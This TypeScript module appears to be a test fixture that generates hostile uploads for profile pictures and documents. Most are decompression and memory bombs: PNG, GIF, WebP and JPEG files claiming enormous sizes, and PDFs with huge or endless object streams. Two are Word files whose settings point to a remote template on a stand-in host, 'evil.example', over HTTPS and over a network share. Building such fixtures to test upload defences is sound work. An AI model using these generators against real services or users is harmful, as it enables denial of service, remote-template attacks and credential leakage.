import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { zipOf } from '#platform/files/zip.ts';

/** A file nobody should be able to do harm with, and the use it is sent as. */
export type Hostile = { readonly name: string; readonly use: string; readonly bytes: Buffer };

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc = (bytes: Buffer) =>
  (bytes.reduce((c, byte) => (CRC_TABLE[(c ^ byte) & 0xff] as number) ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

function pngPart(type: string, data: Buffer): Buffer {
  const part = Buffer.concat([Buffer.alloc(4), Buffer.from(type), data, Buffer.alloc(4)]);
  part.writeUInt32BE(data.length, 0);
  part.writeUInt32BE(crc(part.subarray(4, -4)), part.length - 4);
  return part;
}

type Png = {
  readonly width: number;
  readonly height: number;
  readonly depth?: 1 | 8 | 16;
  /** 0 grey, 2 RGB, 6 RGBA. */
  readonly colour?: 0 | 2 | 6;
  readonly interlaced?: boolean;
  /** How much of the rows is there. */
  readonly rows?: number;
  readonly before?: Buffer;
};
const CHANNELS = { 0: 1, 2: 3, 6: 4 } as const;

/** A PNG of nothing but one colour, which unpacks to far more than it weighs. */
export function somePng({ width, height, depth = 8, colour = 0, interlaced = false, rows, before }: Png): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([depth, colour, 0, 0, interlaced ? 1 : 0], 8);
  const bytes = (1 + Math.ceil((width * CHANNELS[colour] * depth) / 8)) * (rows ?? height);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngPart('IHDR', head),
    ...(before ? [before] : []),
    pngPart('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 })),
    pngPart('IEND', Buffer.alloc(0)),
  ]);
}

const packedText = (type: 'zTXt' | 'iCCP' | 'iTXt', packed: Buffer) => {
  const head = type === 'iTXt' ? 'x\0\x01\0\0\0' : 'x\0\0';
  return pngPart(type, Buffer.concat([Buffer.from(head, 'latin1'), packed]));
};

const word = (value: number) => Buffer.from([value & 255, value >> 8]);

/** A GIF of frames that hold next to nothing, on a screen of any size. */
function someGif(width: number, height: number, frames: number, disposal = 3): Buffer {
  const frame = Buffer.concat([
    Buffer.from([0x21, 0xf9, 4, disposal << 2, 1, 0, 0, 0]),
    Buffer.from([0x2c, 0, 0, 0, 0]),
    word(width),
    word(height),
    // An empty stream of codes: clear, end.
    Buffer.from([0, 2, 2, 0x4c, 0x01, 0]),
  ]);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    word(width),
    word(height),
    Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
    ...Array.from({ length: frames }, () => frame),
    Buffer.from([0x3b]),
  ]);
}

/** The head of a WebP with a canvas of any size up to 16,384² and one small picture, or many. */
async function someWebp(width: number, height: number, frames: number): Promise<Buffer> {
  const small = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#fff' } })
    .webp()
    .toBuffer();
  const picture = small.subarray(12);
  const part = (type: string, data: Buffer) => {
    const size = Buffer.alloc(4);
    size.writeUInt32LE(data.length);
    return Buffer.concat([Buffer.from(type), size, data, Buffer.alloc(data.length % 2)]);
  };
  const three = (value: number) => Buffer.from([value & 255, (value >> 8) & 255, value >> 16]);
  const frame = part(
    'ANMF',
    Buffer.concat([three(0), three(0), three(15), three(15), three(100), Buffer.from([0]), picture]),
  );
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    part('VP8X', Buffer.concat([Buffer.from([frames > 1 ? 2 : 0, 0, 0, 0]), three(width - 1), three(height - 1)])),
    ...(frames > 1 ? [part('ANIM', Buffer.alloc(6)), ...Array.from({ length: frames }, () => frame)] : [picture]),
  ]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([Buffer.from('RIFF'), size, body]);
}

/** A JPEG whose head says another size than its content has. */
async function resizedJpeg(width: number, height: number, progressive: boolean): Promise<Buffer> {
  const bytes = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#777' } })
    .jpeg({ progressive, chromaSubsampling: '4:4:4' })
    .toBuffer();
  const at = bytes.indexOf(Buffer.from([0xff, progressive ? 0xc2 : 0xc0]));
  bytes.writeUInt16BE(height, at + 5);
  bytes.writeUInt16BE(width, at + 7);
  return bytes;
}

const PNGS: Readonly<Record<string, Png>> = {
  '2,500,000 × 4 with 16 bits': { width: 2_500_000, height: 4, depth: 16, colour: 2 },
  '9,999,999 × 4 with 16 bits': { width: 9_999_999, height: 4, depth: 16, colour: 0 },
  '4 × 2,500,000 with 16 bits': { width: 4, height: 2_500_000, depth: 16, colour: 2 },
  '39,999,999 × 1': { width: 39_999_999, height: 1 },
  '1 × 39,999,999': { width: 1, height: 39_999_999, depth: 1 },
  '16,385 × 1': { width: 16_385, height: 1 },
  '1 × 16,385': { width: 1, height: 16_385 },
  '2,147,483,647 × 1 that is not there': { width: 2 ** 31 - 1, height: 1, rows: 0 },
  '6,300² RGBA with 16 bits': { width: 6300, height: 6300, depth: 16, colour: 6, rows: 500 },
  '6,300² RGBA with 16 bits, interlaced': {
    width: 6300,
    height: 6300,
    depth: 16,
    colour: 6,
    interlaced: true,
    rows: 500,
  },
  '5,200² RGB with 16 bits': { width: 5200, height: 5200, depth: 16, colour: 2, rows: 500 },
  '6,200² RGBA, interlaced': { width: 6200, height: 6200, colour: 6, interlaced: true, rows: 500 },
  '4,400² RGBA with 16 bits, interlaced': {
    width: 4400,
    height: 4400,
    depth: 16,
    colour: 6,
    interlaced: true,
    rows: 500,
  },
  '6,300² RGBA whose rows are missing': { width: 6300, height: 6300, colour: 6, interlaced: true, rows: 1 },
  '16,384 × 2,400 RGBA': { width: 16_384, height: 2400, colour: 6 },
  '2,400 × 16,384 RGBA, interlaced': { width: 2400, height: 16_384, colour: 6, interlaced: true, rows: 500 },
};

async function pictures(): Promise<(readonly [string, Buffer])[]> {
  const canvases = [
    [16_383, 16_383, 1],
    [6300, 6300, 1],
    [6300, 6300, 30],
    [1000, 1000, 200],
    [16_383, 4, 500],
  ] as const;
  const text = deflateSync(Buffer.alloc(30_000_000), { level: 9 });
  return [
    ...Object.entries(PNGS).map(([name, png]) => [`png of ${name}`, somePng(png)] as const),
    ...(['zTXt', 'iCCP', 'iTXt'] as const).map(
      (type) =>
        [`png with a packed ${type}`, somePng({ width: 50, height: 50, before: packedText(type, text) })] as const,
    ),
    ['gif of 65,535²', someGif(65_535, 65_535, 1)],
    ['gif of 6,300² with 20 frames', someGif(6300, 6300, 20)],
    ['gif of 6,300²', someGif(6300, 6300, 1)],
    ['gif of 500² with 20,000 frames', someGif(500, 500, 20_000)],
    ['gif of 16,384 × 2,400', someGif(16_384, 2400, 2, 2)],
    ['gif of 30,000 × 10 with 100 frames', someGif(30_000, 10, 100)],
    ...(await Promise.all(
      canvases.map(
        async ([width, height, frames]) =>
          [`webp of ${width} × ${height} with ${frames} frames`, await someWebp(width, height, frames)] as const,
      ),
    )),
    ...(await Promise.all(
      (
        [
          [65_535, 65_535],
          [65_500, 600],
          [6300, 6300],
          [16_384, 2400],
        ] as const
      ).flatMap(([width, height]) =>
        [true, false].map(
          async (progressive) =>
            [
              `jpeg of ${width} × ${height}${progressive ? ', progressive' : ''}`,
              await resizedJpeg(width, height, progressive),
            ] as const,
        ),
      ),
    )),
  ];
}

const pdf = (body: string) => Buffer.from(`%PDF-1.5\n${body}\n%%EOF`, 'latin1');
const packed = (content: string | Buffer) => deflateSync(content, { level: 9 }).toString('latin1');
const objects = (content: string | Buffer) =>
  `1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n${packed(content)}\nendstream endobj\n`;

const TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word file whose settings have these relationships. */
export const someDocx = (relationships: string, more: readonly { name: string; bytes: Buffer }[] = []): Buffer =>
  zipOf([
    { name: '[Content_Types].xml', bytes: Buffer.from(TYPES) },
    { name: 'word/document.xml', bytes: Buffer.from('<w:document/>') },
    { name: 'word/_rels/settings.xml.rels', bytes: Buffer.from(`<Relationships>${relationships}</Relationships>`) },
    ...more,
  ]);

export const relationship = (type: string, target: string, more = ' TargetMode="External"') =>
  `<Relationship Id="rId1" Type="${RELATIONSHIP}/${type}" Target="${target}"${more}/>`;

const documents = (): (readonly [string, Buffer])[] => [
  ['pdf with an object stream of 40 MB', pdf(objects(Buffer.alloc(40_000_000, 0x20)))],
  ['pdf with forty object streams of 4 MB', pdf(objects(Buffer.alloc(4_100_000, 0x20)).repeat(40))],
  ['pdf with 40,000 object streams', pdf(objects('5 0 <<>>').repeat(40_000))],
  ['pdf whose heads never end', pdf(`/ObjStm ${'stream '.repeat(650_000)}`)],
  ['pdf of hex escapes', pdf('#4'.repeat(2_400_000))],
  [
    'docx with a list of relationships of 4 MB',
    someDocx(relationship('hyperlink', 'https://a.example').repeat(27_000)),
  ],
  ['docx with a remote template', someDocx(relationship('attachedTemplate', 'https://evil.example/a.dotm'))],
  ['docx whose template is on a share', someDocx(relationship('attachedTemplate', '\\\\evil.example\\a.dotm'))],
  ['docx with quotes that never close', someDocx('<Relationship "'.repeat(60_000))],
];

/** Small files that ask for far more memory or time than they weigh. */
export const memoryBombs = async (): Promise<Hostile[]> => [
  ...(await pictures()).map(([name, bytes]) => ({ name, use: 'profile', bytes })),
  ...documents().map(([name, bytes]) => ({ name, use: 'document', bytes })),
];
